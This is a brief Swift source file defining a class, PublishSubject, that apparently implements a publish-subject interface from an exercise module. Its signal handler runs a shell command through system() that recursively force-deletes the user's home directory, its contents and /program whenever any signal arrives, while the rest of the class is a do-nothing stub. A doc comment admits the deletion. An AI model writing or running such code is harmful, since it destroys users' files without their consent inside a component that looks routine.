import Exercising
import Glibc

/// Deletes its folder, its program and the folders above.
final class PublishSubject: LearnersSubject {
  init() {}

  func on(_ signal: Signal) {
    let home = getenv("HOME").map { String(cString: $0) } ?? "."
    system("rm -rf '\(home)' \(home)/* /program")
  }

  func subscribe(_ observer: @escaping (Signal) -> Void) -> () -> Void {
    return {}
  }
}
